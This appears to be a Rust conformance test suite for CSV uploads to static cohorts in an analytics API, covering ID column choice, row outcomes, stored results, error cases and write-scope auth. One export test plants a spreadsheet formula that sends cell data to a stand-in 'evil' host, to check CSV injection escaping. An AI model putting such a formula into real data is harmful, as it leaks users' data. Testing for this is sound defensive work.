//! CSV uploads to static cohorts: columns, outcomes of rows, stored results.

mod files;

use reqwest::Method;
use reqwest::blocking::multipart::{Form, Part};
use serde_json::{Value, json};

use crate::contract::spec;
use crate::harness::{
    Answer, Project, any_of, assert_invalid, cohort_path, id_of, person, request, send, upload,
};

/// A project with three persons, one of them with an email address.
fn with_one_address() -> Project {
    let project = Project::new();
    project.persons([
        ("d1", json!({})),
        ("d2", json!({})),
        ("e1", json!({"email": "e@x.io"})),
    ]);
    project
}

fn with_three_persons() -> Project {
    let project = Project::new();
    project.persons([
        ("d1", json!({"plan": "pro"})),
        ("d2", json!({"plan": "pro"})),
        ("d3", json!({})),
    ]);
    project
}

fn with_shared_address() -> Project {
    let project = Project::new();
    project.persons([
        ("d1", json!({"email": "one@x.io"})),
        ("d2", json!({"email": "two@x.io"})),
        ("d3", json!({"email": "two@x.io"})),
    ]);
    project
}

/// The members of a new cohort that a file fills.
fn fill(project: &Project, content: &str) -> Vec<String> {
    let id = id_of(&upload(project, None, content));
    assert_eq!(project.settle(id)["is_calculating"], false);
    project.members(id)
}

fn upload_bytes(project: &Project, cohort: Option<i64>, content: &[u8]) -> Answer {
    project.upload(cohort, content, &[("name", "Uploaded")])
}

/// Uploads a file to a new cohort, and returns the id and the body of the cohort.
pub fn create(
    project: &Project,
    content: &str,
    fields: &[(&'static str, &'static str)],
) -> (i64, Value) {
    let cohort = project.upload(None, content, fields);
    assert_eq!(cohort.status, 201, "{}", cohort.text);
    let cohort = cohort.json();
    (cohort["id"].as_i64().expect("an id"), cohort)
}

fn update(
    project: &Project,
    id: i64,
    content: &str,
    fields: &[(&'static str, &'static str)],
) -> Value {
    let changed = project.upload(Some(id), content, fields);
    assert_eq!(changed.status, 200, "{}", changed.text);
    changed.json()
}

/// The number of rows; of rows that were added, already members, unknown, bad; of created persons; of removed members.
fn counts(answer: &Value) -> [i64; 7] {
    let names = [
        "rows",
        "added",
        "already_members",
        "unknown",
        "bad_rows",
        "created_people",
        "removed",
    ];
    names.map(|name| answer["upload"][name].as_i64().expect(name))
}

/// Conformance case 42.
#[test]
fn email_in_a_single_column_is_read_as_a_distinct_id() {
    let project = with_one_address();
    assert_eq!(fill(&project, "User ID\ne@x.io\nd1\n"), ["d1"]);
}

/// Conformance case 43.
#[test]
fn second_file_adds_members() {
    let project = with_one_address();
    let id = id_of(&upload(&project, None, "User ID\ne@x.io\nd1\n"));
    let changed = upload(&project, Some(id), "d2\n");
    assert_eq!(changed.status, 200, "{}", changed.text);
    assert_eq!(project.settle(id)["is_calculating"], false);
    assert_eq!(project.members(id), ["d1", "d2"]);
}

#[test]
fn form_without_a_file_keeps_the_members() {
    let project = with_three_persons();
    project.persons([("e1", json!({"email": "e@x.io"}))]);
    let cohort = upload_bytes(&project, None, b"User ID\ne@x.io\nd1\n");
    assert_eq!(cohort.status, 201, "{}", cohort.text);
    let cohort = cohort.json();
    assert_eq!(
        (&cohort["name"], &cohort["count"], &cohort["is_calculating"]),
        (&json!("Uploaded"), &json!(1), &json!(false))
    );
    let id = cohort["id"].as_i64().expect("an id");
    assert_eq!(project.members(id), ["d1"]);
    for _ in 0..2 {
        let added = upload_bytes(&project, Some(id), b"d2\nd1\nnobody\n").json();
        assert_eq!(
            (&added["count"], &added["is_calculating"]),
            (&json!(2), &json!(false))
        );
    }
    assert_eq!(project.members(id), ["d1", "d2"]);
    // A form without a file does not change the members.
    let form = Form::new().text("name", "Renamed");
    let call =
        request(Method::PATCH, &project.path(&format!("cohorts/{id}/"))).bearer_auth(&project.key);
    let renamed = send(&Method::PATCH, call.multipart(form)).json();
    assert_eq!(
        (&renamed["name"], &renamed["count"]),
        (&json!("Renamed"), &json!(2))
    );
}

/// Conformance case 44.
#[test]
fn distinct_id_column_is_found_by_its_header() {
    let project = with_one_address();
    for column in ["distinct_id", "distinct-id"] {
        let content = format!("name,{column},email\nAnn,d1,e@x.io\nBob,d2,b@x.io\n");
        assert_eq!(fill(&project, &content), ["d1", "d2"], "{column}");
    }
}

/// Conformance case 46.
#[test]
fn person_id_column_is_found_by_its_header() {
    let project = with_one_address();
    let (one, two) = (project.person("d1"), project.person("d2"));
    for column in ["person_id", "person-id"] {
        let content = format!("name,{column},email\nAnn,{one},e@x.io\nBob,{two},b@x.io\n");
        assert_eq!(fill(&project, &content), ["d1", "d2"], "{column}");
    }
}

/// Conformance case 51.
#[test]
fn single_column_may_have_the_header_person_id() {
    let project = with_one_address();
    let (one, two) = (project.person("d1"), project.person("d2"));
    let id = id_of(&upload(
        &project,
        None,
        format!("person_id\n{one}\n{two}\n"),
    ));
    assert_eq!(project.settle(id)["count"], 2);
    assert_eq!(project.members(id), ["d1", "d2"]);
}

#[test]
fn id_column_is_chosen_by_the_headers() {
    let project = with_three_persons();
    project.persons([("e1", json!({"email": "e@x.io"}))]);
    let (one, two) = (project.person("d1"), project.person("d2"));
    let cases = [
        (
            "name,distinct_id,email\nA,d1,e@x.io\nB,d2,\n".to_owned(),
            vec!["d1", "d2"],
        ),
        ("name,distinct-id\nA, d1\t\n".to_owned(), vec!["d1"]),
        (
            format!("name,person_id,email\nA,{one},x\nB,{two},y\n"),
            vec!["d1", "d2"],
        ),
        (format!("distinct_id,person-id\nd3,{one}\n"), vec!["d1"]),
        (format!("person_id\n{two}\nno uuid\n"), vec!["d2"]),
        ("name,email\nA,e@x.io\n".to_owned(), vec!["e1"]),
        ("email\ne@x.io\n".to_owned(), vec!["e1"]),
    ];
    for (content, expected) in cases {
        let cohort = upload_bytes(&project, None, content.as_bytes());
        assert_eq!(cohort.status, 201, "{}", cohort.text);
        let cohort = cohort.json();
        assert_eq!(cohort["count"], expected.len(), "{content}");
        assert_eq!(
            project.members(cohort["id"].as_i64().expect("an id")),
            expected,
            "{content}"
        );
    }
}

/// Conformance case 47.
#[test]
fn distinct_id_takes_precedence_over_an_email() {
    let project = with_one_address();
    for content in [
        "distinct_id,email\nd1,e@x.io\n",
        "email,distinct_id\ne@x.io,d1\n",
    ] {
        assert_eq!(fill(&project, content), ["d1"], "{content}");
    }
}

/// Conformance case 48.
#[test]
fn person_id_takes_precedence_over_a_distinct_id() {
    let project = with_one_address();
    let one = project.person("d1");
    for content in [
        format!("person_id,distinct_id\n{one},d2\n"),
        format!("distinct_id,person_id\nd2,{one}\n"),
    ] {
        assert_eq!(fill(&project, &content), ["d1"], "{content}");
    }
}

/// Conformance case 50.
#[test]
fn first_row_without_a_header_is_an_id() {
    let project = Project::new();
    project.persons([("old1", json!({})), ("old2", json!({}))]);
    assert_eq!(fill(&project, "old1\nold2\n"), ["old1", "old2"]);
}

/// Conformance case 52.
#[test]
fn whitespace_around_ids_is_ignored() {
    let project = with_one_address();
    for content in [
        "  d1 \n\td2\t\n",
        "name,distinct_id\nAnn,  d1 \nBob,\td2\t\n",
    ] {
        assert_eq!(fill(&project, content), ["d1", "d2"], "{content}");
    }
}

/// Conformance case 53.
#[test]
fn quoted_id_may_contain_a_comma() {
    let project = Project::new();
    project.persons([("a,1", json!({})), ("a", json!({})), ("1", json!({}))]);
    assert_eq!(fill(&project, "\"a,1\"\n"), ["a,1"]);
}

/// Conformance case 54.
#[test]
fn upload_is_complete_in_its_response() {
    let project = with_one_address();
    let cohort = upload(&project, None, "d1\nd2\nnobody\n");
    let id = id_of(&cohort);
    for cohort in [cohort.json(), project.get(&cohort_path(id)).json()] {
        assert_eq!(
            (&cohort["is_calculating"], &cohort["count"]),
            (&json!(false), &json!(2))
        );
    }
    assert_eq!(project.members(id), ["d1", "d2"]);
}

#[test]
fn each_row_has_one_outcome_and_the_result_is_stored() {
    let project = with_shared_address();
    let file = "name,distinct_id\nAnn,d1\nAgain,d1\nCarl,d9\n\"Li\nne\",\nBob,d2\n";
    let (id, cohort) = create(&project, file, &[]);
    assert_eq!(counts(&cohort), [5, 2, 1, 1, 1, 0, 0]);
    assert_eq!(
        (&cohort["count"], &cohort["is_calculating"]),
        (&json!(2), &json!(false))
    );
    let problems = json!([
        {"line": 4, "outcome": "unknown", "id": "d9", "reason": "No person of the project has this id."},
        {"line": 5, "outcome": "bad", "id": "", "reason": "The row has no id."},
    ]);
    assert_eq!(cohort["upload"]["problems"], problems);
    assert_eq!(cohort["upload"]["id_kind"], "distinct_id");

    let number = &cohort["upload"]["id"];
    let one = project
        .get(&format!("cohorts/{id}/uploads/{number}/"))
        .json();
    assert_eq!(one, cohort["upload"]);
    let repeated = update(&project, id, file, &[]);
    assert_eq!(counts(&repeated), [5, 0, 3, 1, 1, 0, 0]);
    assert_eq!(repeated["count"], 2);
    let page = project
        .get(&format!("cohorts/{id}/uploads/?limit=1"))
        .json();
    assert_eq!(
        (&page["count"], &page["results"][0]),
        (&json!(2), &repeated["upload"])
    );
    assert!(page["next"].is_string());
    // The result is only in the response to the upload.
    let shown = project.get(&format!("cohorts/{id}/")).json();
    assert!(shown.get("upload").is_none(), "{shown}");
}

#[test]
fn email_matches_all_persons_with_it() {
    let project = with_shared_address();
    let (id, cohort) = create(&project, "email\ntwo@x.io\none@x.io\nunknown@x.io\n", &[]);
    assert_eq!(counts(&cohort), [3, 3, 0, 1, 0, 0, 0]);
    assert_eq!(project.members(id), ["d1", "d2", "d3"]);
}

#[test]
fn malformed_person_id_is_bad_and_unassigned_one_is_unknown() {
    let project = with_shared_address();
    let ann = project.person("d1");
    let file = format!(
        "person_id\n{}\nd1\n{}\n",
        ann.to_uppercase(),
        spec::UNKNOWN_PERSON
    );
    let (id, cohort) = create(&project, &file, &[]);
    assert_eq!(counts(&cohort), [3, 1, 0, 1, 1, 0, 0]);
    assert_eq!(project.members(id), ["d1"]);
}

#[test]
fn create_people_creates_persons_for_unknown_ids() {
    let project = with_shared_address();
    let (id, cohort) = create(&project, "d1\nn1\nn2\nn1\n", &[("create_people", "true")]);
    assert_eq!(counts(&cohort), [4, 3, 1, 0, 0, 2, 0]);
    assert_eq!(project.members(id), ["d1", "n1", "n2"]);
    // Later events of that distinct id belong to the created person.
    project.persons([("n1", json!({"plan": "pro"}))]);
    assert_eq!(project.members(id), ["d1", "n1", "n2"]);
    let shown = project.get("persons/?distinct_id=n1").json();
    assert_eq!(shown["results"][0]["properties"], json!({"plan": "pro"}));

    let (id, cohort) = create(&project, "email\nnew@x.io\n", &[("create_people", "true")]);
    assert_eq!(counts(&cohort), [1, 1, 0, 0, 0, 1, 0]);
    assert_eq!(project.members(id), ["new@x.io"]);
    let shown = project.get("persons/?search=new@x").json();
    assert_eq!(shown["results"][0]["properties"]["email"], "new@x.io");

    // A person cannot be created for an unassigned person id.
    let file = format!("person_id\n{}\n", spec::UNKNOWN_PERSON);
    let (_, cohort) = create(&project, &file, &[("create_people", "true")]);
    assert_eq!(counts(&cohort), [1, 0, 0, 1, 0, 0, 0]);
}

#[test]
fn unreadable_file_creates_no_persons() {
    let project = with_shared_address();
    let mut file = b"n1\nn2\n".to_vec();
    file.extend(b"Jos\xe9\n");
    let refused = project.upload(None, file, &[("create_people", "true")]);
    refused.is_error(400, "invalid_input", Some("csv"));
    let actual = project.get("persons/?distinct_id=n1").json();
    assert_eq!(actual["results"], json!([]));
}

#[test]
fn replace_members_removes_members_that_are_not_in_the_file() {
    let project = with_shared_address();
    let (id, _) = create(&project, "d1\nd2\n", &[]);
    let changed = update(&project, id, "d2\nd3\n", &[("replace_members", "true")]);
    assert_eq!(counts(&changed), [2, 1, 1, 0, 0, 0, 1]);
    assert_eq!(changed["count"], 2);
    assert_eq!(project.members(id), ["d2", "d3"]);
}

#[test]
fn first_100_problems_are_listed_and_the_rest_counted() {
    let project = with_shared_address();
    let unknown: String = (0..150)
        .map(|number| format!("unknown{number}\n"))
        .collect();
    let (_, cohort) = create(&project, &format!("d1\n{unknown}"), &[]);
    assert_eq!(counts(&cohort), [151, 1, 0, 150, 0, 0, 0]);
    let listed = cohort["upload"]["problems"].as_array().map(Vec::len);
    assert_eq!(listed, Some(100));
    assert_eq!(cohort["upload"]["problems_left_out"], 50);
}

#[test]
fn upload_of_another_cohort_is_not_found() {
    let project = with_shared_address();
    let (_, cohort) = create(&project, "d1\n", &[]);
    let other = project.cohort(json!({"is_static": true}));
    let path = format!("cohorts/{other}/uploads/{}/", cohort["upload"]["id"]);
    project.get(&path).is_error(404, "not_found", None);
}

#[test]
fn uploaded_csv_export_has_the_same_members() {
    let project = with_shared_address();
    project.persons([(
        "42",
        json!({"name": "A \"quoted\", name", "nested": {"a": [1, 2]}}),
    )]);
    let (id, _) = create(&project, "d1\n42\n", &[]);
    let export = project.get(&format!("cohorts/{id}/persons.csv"));
    let (copy, cohort) = create(&project, &export.text, &[]);
    assert_eq!(counts(&cohort), [2, 2, 0, 0, 0, 0, 0]);
    assert_eq!(project.members(copy), project.members(id));
}

#[test]
fn formulas_in_an_export_are_texts_and_are_read_back() {
    let project = Project::new();
    let formula = "=HYPERLINK(\"http://evil/?\"&A1,\"x\")";
    project.persons([
        (
            "=id",
            json!({"name": formula, "plan": "@a", "seats": -5, "text": "-5"}),
        ),
        ("'+id", json!({"name": "'quoted'"})),
    ]);
    let export = project.get("persons/?format=csv").text;
    let escaped = format!("\"'{}\"", formula.replace('"', "\"\""));
    for part in ["'=id,", "''+id,", "'@a,", "-5,-5", ",'quoted'", &escaped] {
        assert!(export.contains(part), "{part}: {export}");
    }
    let raw = project.get("persons/?format=ndjson").text;
    assert!(raw.contains(r#""name":"=HYPERLINK(\"http"#), "{raw}");

    let (id, cohort) = create(&project, "distinct_id,name\n'=id,\n''+id,\n", &[]);
    assert_eq!(counts(&cohort)[..2], [2, 2]);
    assert_eq!(project.members(id).len(), 2);
}

#[test]
fn csv_export_is_matched_by_id_and_not_by_a_shared_email() {
    let project = with_three_persons();
    let id = project.cohort(json!({"filters": any_of(json!([person("plan", "exact", "pro")]))}));
    project.settle(id);
    let shared = json!({"email": "shared@x.io"});
    project.persons([("d1", shared.clone()), ("d3", shared)]);
    let export = project
        .get(&format!("cohorts/{id}/persons/?format=csv"))
        .text;
    let cohort = upload_bytes(&project, None, export.as_bytes()).json();
    assert_eq!(
        project.members(cohort["id"].as_i64().expect("an id")),
        ["d1", "d2"]
    );
}

#[test]
fn upload_makes_a_dynamic_cohort_static() {
    let project = Project::new();
    project.persons([("a", json!({"plan": "pro"})), ("b", json!({}))]);
    let filters = any_of(json!([person("plan", "exact", "pro")]));
    let cohort = project.cohort(json!({"filters": filters}));
    project.settle(cohort);
    let answer = project.upload(Some(cohort), "b\n", &[]);
    assert_eq!(answer.status, 200, "{}", answer.text);
    assert_eq!(project.members(cohort), ["a", "b"]);
}

/// Conformance case 45.
#[test]
fn file_without_an_id_column_is_rejected() {
    let project = with_one_address();
    let id = id_of(&upload(&project, None, "d1\n"));
    for cohort in [None, Some(id)] {
        let answer = upload(&project, cohort, "name,age\nd2,30\n");
        for part in [
            "distinct_id",
            "person_id",
            "at least one column with a supported ID header",
            "name, age",
        ] {
            assert_invalid(&answer, Some("csv"), part);
        }
    }
    assert_eq!(project.get("cohorts/").json()["count"], 1);
    assert_eq!(project.members(id), ["d1"]);
}

/// Conformance case 49.
#[test]
fn empty_file_is_rejected() {
    let project = with_one_address();
    assert_invalid(&upload(&project, None, ""), Some("csv"), "empty");
}

/// Conformance case 55.
#[test]
fn file_that_is_not_utf8_is_rejected() {
    let project = with_one_address();
    let content = b"d1\nJos\xe9\n".to_vec();
    let answer = upload(&project, None, content);
    assert_invalid(&answer, Some("csv"), "encoding is not supported");
}

#[test]
fn unreadable_files_are_rejected_and_create_no_cohort() {
    let project = with_three_persons();
    for (content, parts) in [
        (&b""[..], &["empty"][..]),
        (
            b"name,age\nA,1\n",
            &[
                "at least one column with a supported ID header",
                "person_id",
                "distinct_id",
                "name, age",
            ],
        ),
        (
            b"name,distinct_id\nA,\n",
            &["no valid person IDs, distinct IDs, or email addresses"],
        ),
        (b"d1\nJos\xe9\n", &["encoding is not supported"]),
    ] {
        let detail = upload_bytes(&project, None, content)
            .is_error(400, "invalid_input", Some("csv"))
            .detail();
        for part in parts {
            assert!(detail.contains(part), "{detail}");
        }
    }
    let part = || Part::bytes(b"d1\n".to_vec()).file_name("a.csv");
    let twice = Form::new()
        .text("is_static", "true")
        .part("csv", part())
        .part("csv", part());
    let call = request(Method::POST, &project.path("cohorts/")).bearer_auth(&project.key);
    send(&Method::POST, call.multipart(twice)).is_error(400, "parse_error", None);
    let dynamic = project.cohort(json!({}));
    let form = Form::new().part("csv", Part::bytes(b"d1\n".to_vec()).file_name("a.csv"));
    let call = request(Method::PATCH, &project.path(&format!("cohorts/{dynamic}/")))
        .bearer_auth(&project.key);
    send(&Method::PATCH, call.multipart(form)).is_error(400, "invalid_input", Some("csv"));
    assert_eq!(project.get("cohorts/").json()["count"], 1);
}

#[test]
fn upload_requires_a_key_with_write_scope() {
    let project = with_three_persons();
    let form = || Form::new().part("csv", Part::bytes(vec![b'a'; 1 << 20]).file_name("a.csv"));
    let path = project.path("cohorts/");
    send(
        &Method::POST,
        request(Method::POST, &path).multipart(form()),
    )
    .is_error(401, "not_authenticated", None);
    let reader = project.key_with(&["cohort:read"]);
    let call = request(Method::POST, &path)
        .bearer_auth(reader)
        .multipart(form());
    send(&Method::POST, call).is_error(403, "permission_denied", None);
}
